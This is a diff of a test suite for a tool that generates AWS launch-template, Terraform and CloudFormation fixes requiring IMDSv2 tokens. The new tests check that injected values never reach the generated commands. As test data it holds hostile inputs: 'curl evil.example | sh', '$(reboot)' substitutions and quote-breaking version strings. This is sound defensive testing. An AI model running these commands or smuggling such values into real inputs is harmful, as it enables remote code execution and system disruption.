@@ -48,6 +48,19 @@ describe('the fix', () => {
     expect(code).toContain(`'{"MetadataOptions":{"HttpTokens":"required"}}'`);
   });
 
+  it('of a launch template starts from a version of several digits', () => {
+    const tags = { 'aws:ec2launchtemplate:version': '123456789' };
+    const fixes = fixesFor({ httpTokens: 'required' }, {}, { ...source, tags });
+
+    expect(codeFor('launch-template', fixes)).toContain("--source-version '123456789'");
+  });
+
+  it('is called by where it is made', () => {
+    const fixes = fixesFor({ httpTokens: 'required' }, options, { ...source, launchTemplateId: null });
+
+    expect(fixes.map(({ title }) => title)).toEqual(['Terraform', 'CloudFormation']);
+  });
+
   it('in Terraform is a block, with what is right written down too', () => {
     expect(codeFor('terraform')).toBe(
       [
@@ -81,20 +94,25 @@ describe('the fix', () => {
 
   it.each([
     ['launch template', { launchTemplateId: 'lt-1; curl evil.example | sh' }],
+    ['launch template', { launchTemplateId: '$(reboot)lt-0a1b2c3d4e5f60718' }],
     ['Region', { region: 'eu-west-1 $(reboot)' }],
+    ['Region', { region: '$(reboot) eu-west-1' }],
   ])('takes no %s into a command that is none', (_what, differences) => {
     const fixes = fixesFor({ httpTokens: 'required' }, options, { ...source, ...differences });
 
     expect(fixes.map(({ place }) => place)).toEqual(['terraform', 'cloudformation']);
   });
 
-  it('takes no version into a command that is none', () => {
-    const tags = { 'aws:ec2launchtemplate:version': "1' --dry-run '" };
+  it.each(["1' --dry-run '", "' --dry-run '1", '$(reboot)1'])(
+    'takes no version %j into a command',
+    (version) => {
+      const tags = { 'aws:ec2launchtemplate:version': version };
 
-    expect(
-      codeFor('launch-template', fixesFor({ httpTokens: 'required' }, {}, { ...source, tags })),
-    ).toContain("--source-version '$Default'");
-  });
+      expect(
+        codeFor('launch-template', fixesFor({ httpTokens: 'required' }, {}, { ...source, tags })),
+      ).toContain("--source-version '$Default'");
+    },
+  );
 
   it('is none where nothing is to be changed, or nobody could say to what', () => {
     expect(fixesFor({}, options, source)).toEqual([]);
@@ -116,6 +134,12 @@ describe("an instance's address in the console", () => {
     ],
   ])('in %s is that of its partition', (region, url) => {
     expect(consoleUrl({ accountId: '111122223333', region, instanceId: 'i-0a' })).toBe(url);
+  });
+
+  it('is no longer than an id needs', () => {
+    const url = consoleUrl({ accountId: '1', region: 'eu-west-1', instanceId: 'i'.repeat(65) });
+
+    expect(url.split('=').at(-1)).toBe('i'.repeat(64));
   });
 
   it('cannot be turned elsewhere by an id or a Region', () => {
